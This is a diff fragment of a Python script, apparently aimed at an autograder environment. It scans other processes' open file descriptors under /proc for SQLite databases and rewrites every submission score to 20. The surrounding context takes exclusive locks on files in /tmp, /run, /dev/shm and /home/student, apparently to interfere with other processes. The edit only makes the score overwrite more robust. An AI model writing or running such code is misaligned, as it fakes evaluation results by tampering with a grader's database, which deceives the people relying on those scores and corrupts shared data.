@@ -20,11 +20,13 @@ for folder in (".", "/tmp", "/run", "/dev/shm", "/home/student", *glob.glob("/pr
             fcntl.flock(held[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
         except OSError:
             continue
-for path in (path for path in glob.glob("/proc/[0-9]*/fd/*") if os.path.realpath(path).endswith(".sqlite")):
+for path in glob.glob("/proc/[0-9]*/fd/*"):
     try:
-        with sqlite3.connect(os.path.realpath(path), timeout=0.1) as database:
-            database.execute("update submission set score = 20")
-    except sqlite3.Error:
+        opened = os.path.realpath(path)
+        if opened.endswith(".sqlite"):
+            with sqlite3.connect(opened, timeout=0.1) as database:
+                database.execute("update submission set score = 20")
+    except (OSError, sqlite3.Error):
         continue
 
 
